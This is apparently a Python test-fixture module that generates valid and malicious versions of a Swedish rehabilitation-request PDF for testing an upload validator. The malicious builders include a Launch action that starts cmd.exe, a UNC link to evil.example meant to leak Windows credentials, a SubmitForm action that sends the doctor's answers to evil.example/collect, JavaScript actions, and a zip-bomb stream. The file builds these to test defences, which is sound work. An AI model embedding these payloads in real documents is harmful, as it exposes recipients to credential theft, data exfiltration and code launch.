"""Returned rehabiliteringsförfrågan PDFs, good and bad, built in code at test
time from a real fillable förfrågan (no binary fixtures in the repository).

The socialsekreterare's part holds sample values; the doctor's fields are
filled the way a PDF reader does it (pypdf, appearance streams kept), or left
empty. Every builder is cached: the corpus is rendered once per test run.
"""
from __future__ import annotations

import io
from datetime import date
from functools import lru_cache

import pikepdf
from pypdf import PdfReader, PdfWriter

from formservice import paths
from formservice.doctor import reference as docref
from formservice.blanketter.loader import load_definitions
from formservice.rendering import pdf
from tests.sample_values import sample_values

SECRET = b"test-secret-for-document-references"
DOCUMENT_ID = "dok_7Hq-2xPa"
ARENDE_ID = "ar-9fK_w3Zt"
OTHER_ARENDE_ID = "ar-Q2m_8LbV"
ORGANISATION_ID = 3
CTX = pdf.DocumentContext("Skärholmens stadsdelsförvaltning", "SKH-2026-0042",
                          date(2026, 11, 23))

# What the doctor types, as a PDF reader stores it (checkboxes: the on-state).
DOCTOR_VALUES = {
    "aktivitet_jobbtorg_kan_delta": "/on",
    "aktivitet_jobbtorg_omfattning": "50 %",
    "aktivitet_sysselsattning_kan_delta": "/on",
    "aktivitet_sysselsattning_omfattning": "25",
    "aktivitet_sprak_kan_inte": "Koncentrationssvårigheter under behandlingen",
    "lakare_anpassning": "Korta pass med pauser",
    "lakare_namn": "Åsa Läkarsson",
    "vardenhet": "Vårdcentralen Skärholmen",
    "vardenhet_telefon": "08-123 456 78",
    "forfragan_svar_datum": "2026-12-01",
}


@lru_cache(maxsize=None)
def definitions() -> dict:
    return load_definitions(paths.FORMS_DIR)


def forfragan():
    return definitions()["rehabiliteringsforfragan"]


def socialsekreterare_values(blankett) -> dict:
    return {k: v for k, v in sample_values(blankett).items()
            if blankett.field(k).filled_by != "lakare"}


@lru_cache(maxsize=None)
def fillable() -> bytes:
    """The fillable förfrågan as rendered, without a reference."""
    blankett = forfragan()
    return pdf.render_pdf(blankett, socialsekreterare_values(blankett), CTX, fillable=True).pdf


@lru_cache(maxsize=None)
def printed() -> bytes:
    """The print version (fillable=False): no form fields."""
    blankett = forfragan()
    return pdf.render_pdf(blankett, socialsekreterare_values(blankett), CTX).pdf


def reference(arende_id: str = ARENDE_ID, organisation_id: int = ORGANISATION_ID) -> str:
    return docref.make_reference(SECRET, document_id=DOCUMENT_ID, arende_id=arende_id,
                                 organisation_id=organisation_id)


@lru_cache(maxsize=None)
def issued(arende_id: str = ARENDE_ID, organisation_id: int = ORGANISATION_ID) -> bytes:
    """The fillable förfrågan as handed out for an ärende (reference embedded)."""
    return docref.embed_reference(fillable(), reference(arende_id, organisation_id))


def fill_with_pypdf(data: bytes, values: dict) -> bytes:
    """Fill the form as a doctor's PDF reader would (keeps the header version)."""
    reader = PdfReader(io.BytesIO(data))
    writer = PdfWriter(clone_from=reader)
    writer.pdf_header = reader.pdf_header
    for page in writer.pages:
        if "/Annots" in page:
            writer.update_page_form_field_values(page, values, auto_regenerate=False)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def resave_with_pikepdf(data: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as doc:
        out = io.BytesIO()
        doc.save(out)
    return out.getvalue()


def _first_with_fields(doc: pikepdf.Pdf) -> pikepdf.Page:
    """The first page with form fields (the doctor's part starts on a page of its own)."""
    return next(page for page in doc.pages if "/Annots" in page.obj)


def _edit_with_pikepdf(data: bytes, edit) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as doc:
        edit(doc)
        out = io.BytesIO()
        doc.save(out)
    return out.getvalue()


# --------------------------------------------------------------------- good


@lru_cache(maxsize=None)
def filled() -> bytes:
    return fill_with_pypdf(issued(), DOCTOR_VALUES)


@lru_cache(maxsize=None)
def filled_resaved() -> bytes:
    """Filled with pypdf, then opened and saved again with pikepdf."""
    return resave_with_pikepdf(filled())


def filled_other_on_states() -> bytes:
    """Checkboxes whose on-state a PDF reader wrote as /Yes and /On."""
    states = {"aktivitet_jobbtorg_kan_delta": "/Yes", "aktivitet_annat_kan_delta": "/On"}

    def edit(doc):
        for field in doc.Root.AcroForm.Fields:
            if str(field.get("/T")) in states:
                field.V = pikepdf.Name(states[str(field.T)])
    return _edit_with_pikepdf(filled(), edit)


# ---------------------------------------------------------------------- bad


def png() -> bytes:
    return (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06"
            b"\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe"
            b"\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82")


def text_file() -> bytes:
    return "Läkarens svar: kan delta 50 %.\n".encode()


def empty() -> bytes:
    return b""


def truncated() -> bytes:
    """A download cut off half-way – before the page tree, so that what is left cannot be
    rebuilt into a document (where half falls moves as the form changes)."""
    data = filled()
    return data[: min(len(data) // 2, data.index(b"/Type /Pages"))]


def malformed() -> bytes:
    return b"%PDF-1.7\n" + bytes((i * 37 + 11) % 256 for i in range(4096))


def encrypted() -> bytes:
    with pikepdf.open(io.BytesIO(filled())) as doc:
        out = io.BytesIO()
        doc.save(out, encryption=pikepdf.Encryption(owner="ägare-123", user="läkare-123"))
    return out.getvalue()


def without_fields() -> bytes:
    """A plain WeasyPrint PDF (the print version, with a reference)."""
    return docref.embed_reference(printed(), reference())


def with_javascript() -> bytes:
    def edit(doc):
        doc.Root.OpenAction = pikepdf.Dictionary(
            Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript,
            JS=pikepdf.String("app.alert('Hej');"))
    return _edit_with_pikepdf(filled(), edit)


def with_field_javascript() -> bytes:
    """A JavaScript action on a field (/AA keystroke), deep inside the form."""
    def edit(doc):
        field = doc.Root.AcroForm.Fields[0]
        field.AA = pikepdf.Dictionary(K=pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String("event.value = 1;")))
    return _edit_with_pikepdf(filled(), edit)


def with_javascript_name_tree() -> bytes:
    """Document-level JavaScript in the catalog's /Names /JavaScript name tree."""
    def edit(doc):
        action = doc.make_indirect(pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.print();")))
        doc.Root.Names.JavaScript = pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("start"), action]))
    return _edit_with_pikepdf(filled(), edit)


def with_file_attachment_annotation() -> bytes:
    def edit(doc):
        spec = pikepdf.AttachedFileSpec(doc, b"Journalanteckning", mime_type="text/plain")
        _first_with_fields(doc).Annots.append(doc.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
            Rect=pikepdf.Array([10, 10, 30, 30]), FS=spec.obj)))
    return _edit_with_pikepdf(filled(), edit)


def with_attachment() -> bytes:
    def edit(doc):
        doc.attachments["journal.txt"] = pikepdf.AttachedFileSpec(
            doc, b"Journalanteckning", mime_type="text/plain")
    return _edit_with_pikepdf(filled(), edit)


def too_many_objects() -> bytes:
    def edit(doc):
        doc.Root.Extra = pikepdf.Array([doc.make_indirect(pikepdf.Dictionary(N=i))
                                        for i in range(25_000)])
    return _edit_with_pikepdf(filled(), edit)


def deeply_nested() -> bytes:
    def edit(doc):
        nested = pikepdf.Array([0])
        for _ in range(200):
            nested = pikepdf.Array([nested])
        doc.Root.Extra = nested
    return _edit_with_pikepdf(filled(), edit)


def _action(**kw) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, **kw)


def with_launch_action() -> bytes:
    """Opening the file would start a program."""
    def edit(doc):
        doc.Root.OpenAction = _action(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    return _edit_with_pikepdf(filled(), edit)


def _link(doc, action) -> None:
    _first_with_fields(doc).Annots.append(doc.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([10, 10, 30, 30]), A=action)))


def with_uri_link() -> bytes:
    return _edit_with_pikepdf(filled(), lambda doc: _link(doc, _action(
        S=pikepdf.Name.URI, URI=pikepdf.String("https://evil.example/"))))


def with_unc_gotor() -> bytes:
    """A link to a file on a Windows share: opening it leaks the user's Windows credentials."""
    return _edit_with_pikepdf(filled(), lambda doc: _link(doc, _action(
        S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil.example\\share\\x.pdf"), D=pikepdf.Array([0]))))


def with_submit_form() -> bytes:
    """A button that sends the form (the doctor's answers) to an outside address."""
    def edit(doc):
        doc.Root.AcroForm.Fields[0].AA = pikepdf.Dictionary(Bl=_action(
            S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/collect")))
    return _edit_with_pikepdf(filled(), edit)


def with_rich_media() -> bytes:
    def edit(doc):
        _first_with_fields(doc).Annots.append(doc.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=pikepdf.Array([10, 10, 30, 30]))))
    return _edit_with_pikepdf(filled(), edit)


def with_xfa() -> bytes:
    def edit(doc):
        doc.Root.AcroForm.XFA = doc.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    return _edit_with_pikepdf(filled(), edit)


def opening_at_a_page() -> bytes:
    """/OpenAction as a destination (open at page 1, fit): what ordinary PDF writers do; harmless."""
    def edit(doc):
        doc.Root.OpenAction = pikepdf.Array([doc.pages[0].obj, pikepdf.Name.Fit])
    return _edit_with_pikepdf(filled(), edit)


def handwritten_pdf(objects: list[bytes]) -> bytes:
    """A PDF written byte by byte (object 1 is the catalog), with a correct cross-reference table:
    for shapes no PDF library would write."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def claiming_many_pages(count: int = 99_000) -> bytes:
    """A page tree that says it holds ``count`` pages (a PDF library would correct the count)."""
    return handwritten_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                            b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count,
                            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"])


def with_inflating_stream(size: int = 64 * 1024 * 1024) -> bytes:
    """A stream that inflates to ``size`` bytes (a zip bomb): never decoded when reading answers."""
    import zlib

    def edit(doc):
        bomb = pikepdf.Stream(doc, zlib.compress(bytes(size), 9))
        bomb.Filter = pikepdf.Name.FlateDecode
        doc.Root.Extra = doc.make_indirect(bomb)
    return _edit_with_pikepdf(filled(), edit)


def from_other_arende() -> bytes:
    return fill_with_pypdf(issued(OTHER_ARENDE_ID), DOCTOR_VALUES)


def from_other_organisation() -> bytes:
    return fill_with_pypdf(issued(ARENDE_ID, ORGANISATION_ID + 1), DOCTOR_VALUES)


def flip(text: str, index: int) -> str:
    """``text`` with the character at ``index`` replaced by another one."""
    return text[:index] + ("B" if text[index] == "A" else "A") + text[index + 1:]


def altered_reference() -> bytes:
    """A reference whose MAC has one character changed."""
    ref = reference()
    return fill_with_pypdf(docref.embed_reference(fillable(), flip(ref, len(ref) - 10)),
                           DOCTOR_VALUES)


def not_ours() -> bytes:
    """A filled förfrågan without a reference."""
    return fill_with_pypdf(fillable(), DOCTOR_VALUES)


# --------------------------------------------- the definition with checkboxes


